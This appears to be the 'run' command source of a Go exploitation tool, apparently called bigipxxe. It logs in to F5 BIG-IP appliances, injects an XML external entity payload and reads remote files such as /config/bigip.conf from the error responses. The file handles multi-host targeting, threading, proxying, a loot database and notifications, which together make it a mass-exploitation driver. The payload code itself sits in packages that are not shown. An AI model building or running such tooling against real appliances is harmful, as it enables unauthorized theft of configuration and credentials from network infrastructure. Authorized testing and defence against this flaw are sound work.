package cmd

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"regexp"
	"strconv"
	"strings"
	"text/tabwriter"
	"time"

	"github.com/GhostN3xus/bigipxxe/pkg/auth"
	"github.com/GhostN3xus/bigipxxe/pkg/config"
	"github.com/GhostN3xus/bigipxxe/pkg/exploit"
	"github.com/GhostN3xus/bigipxxe/pkg/logging"
	"github.com/GhostN3xus/bigipxxe/pkg/network"
	"github.com/GhostN3xus/bigipxxe/pkg/notify"
	"github.com/GhostN3xus/bigipxxe/pkg/report"
	pkgRuntime "github.com/GhostN3xus/bigipxxe/pkg/runtime"
	"github.com/GhostN3xus/bigipxxe/pkg/storage/lootdb"
	"github.com/GhostN3xus/bigipxxe/pkg/xxe"
	"github.com/spf13/cobra"
	"github.com/thoas/go-funk"
)

var runCmd = &cobra.Command{
	Use:   "run",
	Short: "Read a file from one or more BIG-IP appliances",
	Long: `Logs in to each host, injects the external entity payload and stores the
file content echoed back in the error message. A rejected login aborts the
whole run.`,
	Example: `  bigipxxe run --rhosts 10.0.0.5 --username admin --password admin
  bigipxxe run --hosts-file hosts.txt --file /config/bigip.conf --threads 8`,
	RunE: func(cmd *cobra.Command, args []string) error {
		rhosts, _ := cmd.Flags().GetString("rhosts")
		hostsFile, _ := cmd.Flags().GetString("hosts-file")
		outputPath, _ := cmd.Flags().GetString("output")

		tc := targetOptions(cmd, cfg.Target)
		if tc.Username == "" {
			return errors.New("--username is required")
		}

		hosts, err := collectHosts(rhosts, hostsFile)
		if err != nil {
			return err
		}
		if len(hosts) == 0 {
			return errors.New("at least one host is required (use --rhosts or --hosts-file)")
		}
		targets, err := buildTargets(hosts, tc)
		if err != nil {
			return err
		}

		failure, err := regexp.Compile(tc.LoginFailurePattern)
		if err != nil {
			return fmt.Errorf("invalid login failure pattern: %w", err)
		}

		client, err := network.NewClient(clientOptions(cmd))
		if err != nil {
			return err
		}

		driver := exploit.NewDriver(
			auth.Credentials{Username: tc.Username, Password: tc.Password},
			exploit.WithClassifier(classifierFor(cfg.Extraction)),
			exploit.WithLootStore(store),
			exploit.WithAuthOptions(auth.WithCookieMarker(tc.CookieMarker), auth.WithFailurePattern(failure)),
			exploit.WithDriverLogger(logger),
		)

		threads, _ := cmd.Flags().GetInt("threads")
		if !cmd.Flags().Changed("threads") {
			threads = cfg.Scanning.Threads
		}
		quiet, _ := cmd.Flags().GetBool("quiet")
		opts := []exploit.ScannerOption{
			exploit.WithWorkers(threads),
			exploit.WithJournal(store),
			exploit.WithScannerLogger(logger),
			exploit.WithProgress(logging.NewProgressBar(cmd.ErrOrStderr(), len(targets), cfg.Logging.Color, len(targets) > 1 && !quiet)),
		}
		if tg := notify.New(cfg.Notify); tg != nil {
			opts = append(opts, exploit.WithNotifier(tg))
		}

		parent := cmd.Context()
		if parent == nil {
			parent = context.Background()
		}
		ctx, cancel := pkgRuntime.WithSignalHandler(parent)
		defer cancel()

		attempts, scanErr := exploit.NewScanner(client, driver, opts...).Scan(ctx, targets)

		printAttempts(cmd, attempts)

		if outputPath != "" {
			records := make([]lootdb.Attempt, 0, len(attempts))
			for _, a := range attempts {
				records = append(records, a.Record(0))
			}
			if err := report.WriteAttempts(outputPath, records); err != nil {
				return fmt.Errorf("write attempts: %w", err)
			}
			logger.Info("attempts written", logging.Fields{"path": outputPath})
		}
		return scanErr
	},
}

// targetOptions overlays changed flags on the configured target options.
func targetOptions(cmd *cobra.Command, base config.TargetConfig) config.TargetConfig {
	flags := cmd.Flags()
	if flags.Changed("rport") {
		base.Port, _ = flags.GetInt("rport")
	}
	if flags.Changed("ssl") {
		base.SSL, _ = flags.GetBool("ssl")
	}
	strs := map[string]*string{
		"login-uri":     &base.LoginURI,
		"target-uri":    &base.TargetURI,
		"file":          &base.RemoteFile,
		"username":      &base.Username,
		"password":      &base.Password,
		"cookie-marker": &base.CookieMarker,
	}
	for name, dst := range strs {
		if flags.Changed(name) {
			*dst, _ = flags.GetString(name)
		}
	}
	return base
}

func clientOptions(cmd *cobra.Command) network.Options {
	opts := network.Options{
		Timeout:   time.Duration(cfg.Scanning.TimeoutSeconds) * time.Second,
		Proxy:     cfg.General.Proxy,
		RateLimit: float64(cfg.Scanning.RateLimitPerHost),
		UserAgent: cfg.Scanning.UserAgent,
	}
	if cmd.Flags().Changed("timeout") {
		secs, _ := cmd.Flags().GetInt("timeout")
		opts.Timeout = time.Duration(secs) * time.Second
	}
	if cmd.Flags().Changed("proxy") {
		opts.Proxy, _ = cmd.Flags().GetString("proxy")
	}
	if cmd.Flags().Changed("rate-limit") {
		opts.RateLimit, _ = cmd.Flags().GetFloat64("rate-limit")
	}
	return opts
}

func classifierFor(ec config.ExtractionConfig) *xxe.Classifier {
	return xxe.NewClassifier(
		xxe.WithExtractor(xxe.OffsetExtractor(ec.PreambleLength, ec.TrailerLength)),
		xxe.WithSignatures(ec.BadRequestSignature, ec.GeneralErrorSignature),
	)
}

// collectHosts merges the comma separated list with the lines of hostsFile.
// Blank lines and # comments are skipped, duplicates dropped.
func collectHosts(list, hostsFile string) ([]string, error) {
	var hosts []string
	for _, h := range strings.Split(list, ",") {
		hosts = append(hosts, strings.TrimSpace(h))
	}
	if hostsFile != "" {
		f, err := os.Open(hostsFile)
		if err != nil {
			return nil, fmt.Errorf("open hosts file: %w", err)
		}
		defer f.Close()
		scanner := bufio.NewScanner(f)
		for scanner.Scan() {
			line := strings.TrimSpace(scanner.Text())
			if strings.HasPrefix(line, "#") {
				continue
			}
			hosts = append(hosts, line)
		}
		if err := scanner.Err(); err != nil {
			return nil, fmt.Errorf("read hosts file: %w", err)
		}
	}
	hosts = funk.FilterString(hosts, func(h string) bool { return h != "" })
	return funk.UniqString(hosts), nil
}

// buildTargets turns host or host:port entries into targets.
func buildTargets(hosts []string, tc config.TargetConfig) ([]exploit.Target, error) {
	targets := make([]exploit.Target, 0, len(hosts))
	for _, entry := range hosts {
		host, port := entry, tc.Port
		if h, p, err := net.SplitHostPort(entry); err == nil {
			n, err := strconv.Atoi(p)
			if err != nil || n < 1 || n > 65535 {
				return nil, fmt.Errorf("invalid port in %q", entry)
			}
			host, port = h, n
		}
		targets = append(targets, exploit.Target{
			Host:       strings.Trim(host, "[]"),
			Port:       port,
			SSL:        tc.SSL,
			LoginURI:   tc.LoginURI,
			TargetURI:  tc.TargetURI,
			RemoteFile: tc.RemoteFile,
		})
	}
	return targets, nil
}

func printAttempts(cmd *cobra.Command, attempts []*exploit.Attempt) {
	w := tabwriter.NewWriter(cmd.OutOrStdout(), 0, 4, 2, ' ', 0)
	fmt.Fprintln(w, "HOST\tOUTCOME\tSTATUS\tLOOT")
	for _, a := range attempts {
		loot := a.LootPath
		if loot == "" {
			loot = "-"
		}
		fmt.Fprintf(w, "%s\t%s\t%s\t%s\n", a.Target.Addr(), a.Outcome(), a.Outcome().Message(), loot)
	}
	w.Flush()
}

func init() {
	rootCmd.AddCommand(runCmd)
	def := config.DefaultTarget()
	runCmd.Flags().String("rhosts", "", "Comma separated target hosts (host or host:port)")
	runCmd.Flags().String("hosts-file", "", "File with one target host per line")
	runCmd.Flags().Int("rport", def.Port, "Target port")
	runCmd.Flags().Bool("ssl", def.SSL, "Use HTTPS")
	runCmd.Flags().String("login-uri", def.LoginURI, "URI of the login form")
	runCmd.Flags().String("target-uri", def.TargetURI, "URI of the vulnerable endpoint")
	runCmd.Flags().StringP("file", "f", def.RemoteFile, "Remote file to read")
	runCmd.Flags().StringP("username", "u", "", "Username for the web UI")
	runCmd.Flags().StringP("password", "p", "", "Password for the web UI")
	runCmd.Flags().String("cookie-marker", def.CookieMarker, "Token the session cookie must contain")
	runCmd.Flags().IntP("threads", "t", 1, "Hosts processed concurrently")
	runCmd.Flags().Int("timeout", 20, "Request timeout in seconds")
	runCmd.Flags().String("proxy", "", "HTTP proxy URL")
	runCmd.Flags().Float64("rate-limit", 0, "Requests per second per host (0 = unlimited)")
	runCmd.Flags().StringP("output", "o", "", "Write the attempts of this run as JSON")
}
